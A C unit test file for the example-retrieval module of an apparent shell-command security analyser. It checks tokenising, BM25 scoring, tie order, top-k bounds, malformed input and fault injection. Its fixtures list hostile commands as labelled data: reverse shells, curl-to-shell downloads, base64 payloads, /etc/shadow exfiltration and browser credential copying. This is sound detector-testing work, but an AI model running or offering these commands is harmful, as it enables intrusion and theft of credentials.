/*
 * test_retrieve — the analyst's example retrieval (src/analyst/retrieve.c):
 * the security tokenizer, BM25 scores and order on hand-made bases (checked
 * against the formula computed here), determinism and tie order, top-k
 * bounds, the label-diversity option, malformed lines, I/O errors, fault
 * injection on load, and self-retrieval over the shipped kb/examples.jsonl.
 */
#include "testutil.h"

#include <math.h>
#include <unistd.h>

#include "retrieve.h"
#include "util.h"

/* ---------------------------------------------------------------- helpers */

static char *toks(const char *cmd) {
    static char out[4096];
    kb_tokenize(cmd, strlen(cmd), out, sizeof out);
    return out;
}

static const char *line(const char *cmd, const char *label) {
    static char buf[8][512];
    static int i;
    char *b = buf[i++ % 8];
    snprintf(b, 512, "{\"cmd\": \"%s\", \"label\": \"%s\", \"technique\": null, \"why\": \"w.\"}", cmd, label);
    return b;
}

static nj_kb *base(const char *const *lines_, size_t n, int *err) {
    static char text[1 << 16];
    size_t len = 0;
    for (size_t i = 0; i < n; i++) len += (size_t)snprintf(text + len, sizeof text - len, "%s\n", lines_[i]);
    return kb_load_mem(text, len, "test", NULL, err);
}

/* Hits compared field by field (kb_hit has padding). */
static void assert_hits_equal(const kb_hit *a, const kb_hit *b, int n) {
    for (int i = 0; i < n; i++) {
        assert_int_equal(a[i].index, b[i].index);
        assert_true(a[i].score == b[i].score);
    }
}

static int query(const nj_kb *kb, const char *q, int k, double div, kb_hit *h) {
    int err = 0;
    nj_kb_searcher *s = kb_searcher_new(kb, &err);
    assert_non_null(s);
    kb_query_opts o = {div};
    int n = kb_query(s, q, strlen(q), k, &o, h);
    kb_searcher_free(s);
    return n;
}

/* -------------------------------------------------------------- tokenizer */

static void test_tokenizer_cases(void **st) {
    (void)st;
    static const struct { const char *in, *want; } cases[] = {
        {"bash -i >& /dev/tcp/203.0.113.45/4444 0>&1", "bash -i /dev/tcp <ip> <num> <num> <num>"},
        {"/usr/bin/nc -e /bin/sh 10.0.0.1 9001", "nc -e sh <ip> <num>"},
        {"curl -fsSL http://203.0.113.15/x.sh | bash", "curl -fssl http: <url-ip> bash"},
        {"curl -o go.tgz https://go.dev/dl/go1.22.5.tar.gz", "curl -o go.tgz https: <url-name>"},
        {"curl http://localhost:8080/api", "curl http: <url-local>"},
        {"curl file:///etc/shadow", "curl file: shadow"},
        {"python3 -c 'import os'", "python0 -c import os"},
        {"LD_PRELOAD=/dev/shm/.l.so ssh admin@db1", "ld_preload <tmpdir> <hidden> .l.so ssh <user@name>"},
        {"ssh root@10.0.0.8", "ssh root <user@ip>"},
        {"scp f x@192.0.2.1:/srv/", "scp f <user@ip> srv"},
        {"echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjUvYi5zaHxzaA== | base64 -d | sh", "echo <b64> base0 -d sh"},
        {"echo 62617368202d69 | xxd -r -p | sh", "echo <hex> xxd -r -p sh"},
        {"sudo vim -c ':!/bin/bash'", "sudo vim -c ! bash"},
        {"curl -F \"file=@/etc/shadow\" http://h.example/u", "curl -f file @file shadow http: <url-name>"},
        {"socat tcp-connect:198.51.100.61:4443 exec:'bash -li',pty", "socat tcp-connect: <ip> <num> exec: bash -li pty"},
        {"curl -s http://x.example/a.py | python3 -", "curl -s http: <url-name> python0 -"},
        {"cat /tmp/f|nc 10.1.1.1 80>/tmp/f", "cat <tmpdir> f nc <ip> <num> <tmpdir> f"},
        {"cp ~/.ff/{logins.json,key4.db} /tmp/", "cp logins.json key0.db <tmpdir> tmp"},
        {"find / -perm -4000", "find / -perm -0"},
        {"nmap -sn 192.168.1.0/24", "nmap -sn <ip>"},
        {"A=1 B=\"two\" ; `x` $(y) && z || w", "a <num> b two x y z w"},
        {"", ""},
        {";;| && ' \" ` $ ( ) , = <>", ""},
    };
    for (size_t i = 0; i < NJ_ARRAY_LEN(cases); i++) {
        const char *got = toks(cases[i].in);
        if (strcmp(got, cases[i].want) != 0)
            fail_msg("tokens of [%s]\n   got  [%s]\n   want [%s]", cases[i].in, got, cases[i].want);
    }
}

static void test_tokenizer_limits(void **st) {
    (void)st;
    /* count is the total even when the output is cut at a token boundary */
    char small[12];
    const char *cmd = "alpha beta gamma delta";
    int n = kb_tokenize(cmd, strlen(cmd), small, sizeof small);
    assert_int_equal(n, 4);
    assert_string_equal(small, "alpha beta");
    assert_int_equal(kb_tokenize(cmd, strlen(cmd), NULL, 0), 4);
    /* an over-long word is cut to KB_MAX_TOKEN bytes */
    char longw[300];
    memset(longw, 'q', sizeof longw - 1);
    longw[sizeof longw - 1] = '\0';
    char out[512];
    assert_int_equal(kb_tokenize(longw, strlen(longw), out, sizeof out), 1);
    assert_int_equal(strlen(out), KB_MAX_TOKEN);
    /* length bounds the input, not the NUL */
    assert_int_equal(kb_tokenize("ls -la", 2, out, sizeof out), 1);
    assert_string_equal(out, "ls");
}

/* ------------------------------------------------------------------- BM25 */

/* The score BM25 gives entry d for query terms q, computed here from the
 * formula in retrieve.h with the default k1 and b. */
static double bm25(const char *const *docs, size_t n, size_t d, const char *const *q, size_t nq) {
    const double k1 = 1.2, b = 0.75;
    double avg = 0;
    int len[16];
    char tk[16][32][32];
    for (size_t i = 0; i < n; i++) {
        char buf[512];
        len[i] = kb_tokenize(docs[i], strlen(docs[i]), buf, sizeof buf);
        int j = 0;
        for (char *s = strtok(buf, " "); s && j < 32; s = strtok(NULL, " ")) snprintf(tk[i][j++], 32, "%s", s);
        avg += len[i];
    }
    avg /= (double)n;
    double score = 0;
    for (size_t t = 0; t < nq; t++) {
        int df = 0, tf = 0;
        for (size_t i = 0; i < n; i++) {
            int c = 0;
            for (int j = 0; j < len[i]; j++) c += strcmp(tk[i][j], q[t]) == 0;
            df += c > 0;
            if (i == d) tf = c;
        }
        if (!tf) continue;
        double idf = log(1 + ((double)n - df + 0.5) / (df + 0.5));
        score += idf * tf * (k1 + 1) / (tf + k1 * (1 - b + b * len[d] / avg));
    }
    return score;
}

static const char *const tiny_cmd[] = {
    "nc -e /bin/sh 10.0.0.1 4444",                    /* 0 malicious */
    "nc -z db.internal 5432",                         /* 1 benign */
    "ls -la /var/log",                                /* 2 benign */
    "nc -e /bin/sh 10.0.0.2 4444 -v -w 3 -n -q 1",   /* 3 malicious, longer */
    "git status",                                     /* 4 benign */
};
static const char *const tiny_label[] = {"malicious", "benign", "benign", "malicious", "benign"};

static nj_kb *tiny(void) {
    const char *ls[5];
    for (int i = 0; i < 5; i++) ls[i] = line(tiny_cmd[i], tiny_label[i]);
    int err = 0;
    nj_kb *kb = base(ls, 5, &err);
    assert_non_null(kb);
    return kb;
}

static void test_bm25_order(void **st) {
    (void)st;
    nj_kb *kb = tiny();
    assert_int_equal(kb_size(kb), 5);
    kb_hit h[8];
    int n = query(kb, "nc -e /bin/sh 192.0.2.7 4444", 8, 0, h);
    /* full match, then the same terms in a longer entry, then nc alone */
    assert_int_equal(n, 3);
    assert_int_equal(h[0].index, 0);
    assert_int_equal(h[1].index, 3);
    assert_int_equal(h[2].index, 1);
    assert_true(h[0].score > h[1].score && h[1].score > h[2].score);
    static const char *const q[] = {"nc", "-e", "sh", "<ip>", "<num>"};
    for (int i = 0; i < n; i++) {
        double want = bm25(tiny_cmd, 5, h[i].index, q, 5);
        if (fabs(h[i].score - want) > 1e-4 * want)
            fail_msg("entry %zu: score %.6f, formula %.6f", h[i].index, h[i].score, want);
    }
    /* a rare term outweighs a common one */
    n = query(kb, "git -la", 8, 0, h);
    assert_int_equal(n, 2);
    assert_true(h[0].score > 0 && h[1].score > 0);
    /* "git" and "-la" both occur once; equal idf, the shorter entry wins */
    assert_int_equal(h[0].index, 4);
    kb_free(kb);
}

static void test_params(void **st) {
    (void)st;
    const char *ls[5];
    for (int i = 0; i < 5; i++) ls[i] = line(tiny_cmd[i], tiny_label[i]);
    char text[4096];
    size_t len = 0;
    for (int i = 0; i < 5; i++) len += (size_t)snprintf(text + len, sizeof text - len, "%s\n", ls[i]);
    /* b = 0: no length normalization, entries 0 and 3 tie on the query
     * terms and the lower index comes first */
    kb_params p = {1.2, 0.0};
    int err = 0;
    nj_kb *kb = kb_load_mem(text, len, "p", &p, &err);
    assert_non_null(kb);
    kb_hit h[4];
    int n = query(kb, "nc -e sh", 4, 0, h);
    assert_int_equal(n, 3);
    assert_int_equal(h[0].index, 0);
    assert_int_equal(h[1].index, 3);
    assert_true(h[0].score == h[1].score);
    kb_free(kb);
    kb_params bad = {1.2, 1.5};
    assert_null(kb_load_mem(text, len, "p", &bad, &err));
    assert_int_equal(err, -EINVAL);
}

/* ------------------------------------------------ determinism and bounds */

static void test_determinism(void **st) {
    (void)st;
    const char *ls[] = {
        line("curl -s http://198.51.100.1/a | sh", "malicious"),
        line("git pull", "benign"),
        line("wget -qO- http://198.51.100.2/b | sh", "malicious"),
        line("git pull", "benign"),   /* duplicate command: an exact tie with 1 */
        line("curl -s http://198.51.100.1/a | sh", "malicious"),   /* tie with 0 */
    };
    int err = 0;
    nj_kb *kb = base(ls, NJ_ARRAY_LEN(ls), &err);
    assert_non_null(kb);
    nj_kb_searcher *a = kb_searcher_new(kb, &err), *b = kb_searcher_new(kb, &err);
    assert_non_null(a);
    assert_non_null(b);
    const char *q = "curl -s http://203.0.113.9/x | sh; git pull";
    kb_hit h1[5], h2[5], h3[5];
    int n1 = kb_query(a, q, strlen(q), 5, NULL, h1);
    int n2 = kb_query(a, q, strlen(q), 5, NULL, h2);
    int n3 = kb_query(b, q, strlen(q), 5, NULL, h3);
    assert_int_equal(n1, 5);
    assert_int_equal(n1, n2);
    assert_int_equal(n1, n3);
    assert_hits_equal(h1, h2, n1);
    assert_hits_equal(h1, h3, n1);
    /* ties are broken by index */
    for (int i = 1; i < n1; i++) {
        assert_true(h1[i - 1].score >= h1[i].score);
        if (h1[i - 1].score == h1[i].score) assert_true(h1[i - 1].index < h1[i].index);
    }
    assert_int_equal(h1[0].index, 0);
    assert_int_equal(h1[1].index, 4);
    assert_true(h1[0].score == h1[1].score);
    /* a query in between does not disturb the next one */
    kb_hit hx[5];
    kb_query(a, "git", 3, 5, NULL, hx);
    assert_int_equal(kb_query(a, q, strlen(q), 5, NULL, h2), n1);
    assert_hits_equal(h1, h2, n1);
    kb_searcher_free(a);
    kb_searcher_free(b);
    kb_free(kb);
}

static void test_topk_bounds(void **st) {
    (void)st;
    nj_kb *kb = tiny();
    int err = 0;
    nj_kb_searcher *s = kb_searcher_new(kb, &err);
    kb_hit h[8];
    const char *q = "nc -e sh";
    assert_int_equal(kb_query(s, q, strlen(q), 0, NULL, h), 0);
    assert_int_equal(kb_query(s, q, strlen(q), 1, NULL, h), 1);
    assert_int_equal(h[0].index, 0);
    assert_int_equal(kb_query(s, q, strlen(q), 2, NULL, h), 2);
    assert_int_equal(kb_query(s, q, strlen(q), 8, NULL, h), 3);   /* only 3 share a token */
    assert_int_equal(kb_query(s, "zzz qqq", 7, 8, NULL, h), 0);
    assert_int_equal(kb_query(s, "", 0, 8, NULL, h), 0);
    assert_int_equal(kb_query(s, NULL, 0, 8, NULL, h), 0);
    assert_int_equal(kb_query(s, q, strlen(q), -1, NULL, h), -EINVAL);
    assert_int_equal(kb_query(s, NULL, 3, 1, NULL, h), -EINVAL);
    assert_int_equal(kb_query(s, q, strlen(q), 1, NULL, NULL), -EINVAL);
    /* k = 2 returns the first two of k = 8 */
    kb_hit all[8], two[2];
    int n = kb_query(s, "nc -e sh 10.0.0.9", 17, 8, NULL, all);
    assert_int_equal(kb_query(s, "nc -e sh 10.0.0.9", 17, 2, NULL, two), 2);
    assert_true(n >= 2);
    assert_hits_equal(all, two, 2);
    kb_searcher_free(s);
    kb_free(kb);
}

static void test_diversity(void **st) {
    (void)st;
    const char *ls[] = {
        line("nc -e /bin/sh 10.0.0.1 4444", "malicious"),
        line("nc -e /bin/bash 10.0.0.2 4444", "malicious"),
        line("nc -c /bin/sh 10.0.0.3 4444", "malicious"),
        line("nc -z 10.0.0.4 4444", "benign"),
        line("ls -la", "benign"),
    };
    int err = 0;
    nj_kb *kb = base(ls, NJ_ARRAY_LEN(ls), &err);
    assert_non_null(kb);
    kb_hit h[3];
    const char *q = "nc -e /bin/sh 10.9.9.9 4444";
    int n = query(kb, q, 3, 0, h);
    assert_int_equal(n, 3);
    for (int i = 0; i < 3; i++) assert_int_equal(kb_entry_at(kb, h[i].index)->label, KB_MALICIOUS);
    kb_hit all[5];
    assert_int_equal(query(kb, q, 5, 0, all), 4);
    assert_int_equal(all[3].index, 3);   /* the benign port check, 4th */
    double ratio = all[3].score / all[0].score;
    /* a factor below the ratio brings the benign example in, in score order */
    n = query(kb, q, 3, ratio * 0.9, h);
    assert_int_equal(n, 3);
    assert_int_equal(h[0].index, 0);
    assert_int_equal(h[1].index, all[1].index);
    assert_int_equal(h[2].index, 3);
    /* a factor above it does not */
    n = query(kb, q, 3, ratio * 1.1 < 1 ? ratio * 1.1 : 1, h);
    for (int i = 0; i < n; i++) assert_int_not_equal(h[i].index, 3);
    /* the label with no matching entry cannot be added; k = 1 cannot make room */
    n = query(kb, q, 1, 0.01, h);
    assert_int_equal(n, 1);
    assert_int_equal(h[0].index, 0);
    kb_free(kb);
}

/* ---------------------------------------------------------- bad input */

static void expect_bad(const char *text, int code, const char *where, const char *what) {
    int err = 0;
    nj_kb *kb = kb_load_mem(text, strlen(text), "bad.jsonl", NULL, &err);
    if (kb) fail_msg("accepted: %s", text);
    assert_int_equal(err, code);
    const char *msg = nj_last_error();
    if (!strstr(msg, where) || !strstr(msg, what)) fail_msg("message [%s] lacks [%s] or [%s]", msg, where, what);
}

static void test_malformed(void **st) {
    (void)st;
    char good[512];
    snprintf(good, sizeof good, "%s\n", line("ls", "benign"));
    char t[2048];
    snprintf(t, sizeof t, "%s\n%s{\"cmd\": \"ls\"\n", good, good);   /* blank line 2 still counts */
    expect_bad(t, NJ_EFORMAT, "bad.jsonl:4:", "not valid JSON");
    snprintf(t, sizeof t, "%s[1, 2]\n", good);
    expect_bad(t, NJ_EFORMAT, "bad.jsonl:2:", "not a JSON object");
    expect_bad("{\"label\": \"benign\", \"technique\": null, \"why\": \"w\"}\n", NJ_EFORMAT, "bad.jsonl:1:", "\"cmd\"");
    expect_bad("{\"cmd\": \"\", \"label\": \"benign\", \"technique\": null, \"why\": \"w\"}", NJ_EFORMAT, ":1:", "empty");
    expect_bad("{\"cmd\": 5, \"label\": \"benign\", \"technique\": null, \"why\": \"w\"}", NJ_EFORMAT, ":1:", "\"cmd\"");
    expect_bad("{\"cmd\": \"ls\", \"label\": \"evil\", \"technique\": null, \"why\": \"w\"}", NJ_EFORMAT, ":1:", "label");
    expect_bad("{\"cmd\": \"ls\", \"label\": \"benign\", \"technique\": 3, \"why\": \"w\"}", NJ_EFORMAT, ":1:", "technique");
    expect_bad("{\"cmd\": \"ls\", \"label\": \"benign\", \"technique\": null}", NJ_EFORMAT, ":1:", "\"why\"");
    expect_bad("{\"cmd\": \"l\\u0000s\", \"label\": \"benign\", \"technique\": null, \"why\": \"w\"}", NJ_EFORMAT, ":1:",
               "NUL");
    expect_bad("{\"cmd\": \"ls\", \"cmd\": \"id\", \"label\": \"benign\", \"technique\": null, \"why\": \"w\"}",
               NJ_EFORMAT, ":1:", "not valid JSON");
    expect_bad("{\"cmd\": \"ls\", \"label\": \"benign\", \"technique\": null, \"why\": \"w\"} trailing", NJ_EFORMAT,
               ":1:", "not valid JSON");
    /* blank and whitespace-only lines are fine, an empty base too */
    int err = 0;
    nj_kb *kb = kb_load_mem("\n  \n\t\r\n", 7, "blank", NULL, &err);
    assert_non_null(kb);
    assert_int_equal(kb_size(kb), 0);
    kb_hit h[2];
    assert_int_equal(query(kb, "ls", 2, 0.5, h), 0);
    kb_free(kb);
    /* an entry whose command has no token at all loads and is never returned */
    const char *punct = "{\"cmd\": \")'\", \"label\": \"malicious\", \"technique\": null, \"why\": \"w\"}\n";
    kb = kb_load_mem(punct, strlen(punct), "punct", NULL, &err);
    assert_non_null(kb);
    assert_int_equal(kb_size(kb), 1);
    assert_int_equal(query(kb, ")'", 2, 0, h), 0);
    kb_free(kb);
    /* technique kept, unknown keys ignored */
    const char *ok = "{\"cmd\": \"id\", \"label\": \"suspicious\", \"technique\": \"T1033\", \"why\": \"w.\", \"x\": 1}\n";
    kb = kb_load_mem(ok, strlen(ok), "ok", NULL, &err);
    assert_non_null(kb);
    assert_string_equal(kb_entry_at(kb, 0)->technique, "T1033");
    assert_int_equal(kb_entry_at(kb, 0)->label, KB_SUSPICIOUS);
    assert_null(kb_entry_at(kb, 1));
    kb_free(kb);
}

static void test_file_errors(void **st) {
    (void)st;
    int err = 0;
    assert_null(kb_load("/nonexistent/nightjar/kb.jsonl", NULL, &err));
    assert_int_equal(err, -ENOENT);
    assert_non_null(strstr(nj_last_error(), "/nonexistent/nightjar/kb.jsonl"));
    const char *dir = nj_test_tmpdir();
    assert_non_null(dir);
    char p[600];
    snprintf(p, sizeof p, "%s/kb.jsonl", dir);
    FILE *f = fopen(p, "w");
    assert_non_null(f);
    fprintf(f, "%s\n%s\n{oops}\n", line("ls", "benign"), line("id", "benign"));
    fclose(f);
    assert_null(kb_load(p, NULL, &err));
    assert_int_equal(err, NJ_EFORMAT);
    char where[700];
    snprintf(where, sizeof where, "%s:3:", p);
    assert_non_null(strstr(nj_last_error(), where));
    remove(p);
    rmdir(dir);
}

/* --------------------------------------------------- fault injection */

static void test_alloc_failures(void **st) {
    (void)st;
    const char *ls[] = {
        line("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "malicious"),
        line("git status", "benign"),
        line("find / -perm -4000 2>/dev/null", "suspicious"),
        line("curl -fsSL https://example.com/install.sh -o i.sh", "benign"),
        line("sudo vim -c ':!/bin/sh'", "malicious"),
        line("cat /etc/passwd", "suspicious"),
    };
    char text[4096];
    size_t len = 0;
    for (size_t i = 0; i < NJ_ARRAY_LEN(ls); i++) len += (size_t)snprintf(text + len, sizeof text - len, "%s\n", ls[i]);
    int err = 0;
    nj_kb *warm = kb_load_mem(text, len, "warm", NULL, &err);   /* first use sets jansson's allocator */
    assert_non_null(warm);
    kb_free(warm);
    size_t base_mem = nj_mem_in_use();
    long failures = 0;
    for (long n = 0;; n++) {
        assert_true(n < 100000);
        nj_alloc_fail_after(n);
        nj_kb *kb = kb_load_mem(text, len, "faulty", NULL, &err);
        nj_kb_searcher *s = kb ? kb_searcher_new(kb, &err) : NULL;
        nj_alloc_fail_after(-1);
        if (kb && s) {
            kb_hit h[3];
            assert_int_equal(kb_query(s, "sudo vim", 8, 3, NULL, h), 1);
            kb_searcher_free(s);
            kb_free(kb);
            assert_int_equal(nj_mem_in_use(), base_mem);
            break;
        }
        failures++;
        if (err != -ENOMEM) fail_msg("allocation %ld failing gave %d: %s", n, err, nj_last_error());
        kb_free(kb);
        assert_int_equal(nj_mem_in_use(), base_mem);
    }
    if (failures <= 10) fail_msg("only %ld allocations reached", failures);
}

/* ------------------------------------------------------ shipped base */

static void test_shipped_kb(void **st) {
    (void)st;
    const char *dir = getenv("KB_DIR");
    char p[1024];
    snprintf(p, sizeof p, "%s/examples.jsonl", dir ? dir : "kb");
    FILE *f = fopen(p, "r");
    if (!f) skip();
    fclose(f);
    int err = 0;
    nj_kb *kb = kb_load(p, NULL, &err);
    if (!kb) fail_msg("%s", nj_last_error());
    assert_true(kb_size(kb) >= 400);
    nj_kb_searcher *s = kb_searcher_new(kb, &err);
    assert_non_null(s);
    size_t counts[KB_NLABELS] = {0};
    for (size_t i = 0; i < kb_size(kb); i++) {
        const kb_entry *e = kb_entry_at(kb, i);
        counts[e->label]++;
        kb_hit h[5];
        int n = kb_query(s, e->cmd, strlen(e->cmd), 5, NULL, h);
        assert_true(n >= 1);
        /* an entry finds itself among the best-scoring hits */
        bool found = false;
        for (int j = 0; j < n; j++) found |= h[j].index == i;
        if (!found) fail_msg("entry %zu [%s] is not in its own top 5", i, e->cmd);
    }
    for (int l = 0; l < KB_NLABELS; l++) assert_true(counts[l] >= kb_size(kb) / 10);
    kb_searcher_free(s);
    kb_free(kb);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_tokenizer_cases),
        cmocka_unit_test(test_tokenizer_limits),
        cmocka_unit_test(test_bm25_order),
        cmocka_unit_test(test_params),
        cmocka_unit_test(test_determinism),
        cmocka_unit_test(test_topk_bounds),
        cmocka_unit_test(test_diversity),
        cmocka_unit_test(test_malformed),
        cmocka_unit_test(test_file_errors),
        cmocka_unit_test(test_alloc_failures),
        cmocka_unit_test(test_shipped_kb),
    };
    return cmocka_run_group_tests_name("retrieve", tests, NULL, NULL);
}
